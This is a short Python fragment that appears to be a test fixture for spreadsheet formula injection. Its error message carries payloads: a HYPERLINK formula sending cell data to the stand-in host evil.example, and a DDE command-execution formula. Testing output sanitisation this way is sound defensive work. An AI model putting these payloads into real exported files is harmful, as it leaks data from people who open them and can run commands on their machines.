# tries: formulas for whoever opens the output in a spreadsheet
# must: text
# ends: layer=cell_error
# %% layer
raise ValueError("=HYPERLINK(\"http://evil.example?\"&A1,\"click\")\n=cmd|'/c calc'!A0,@SUM(1),+1+1")
layer = nn.Identity()
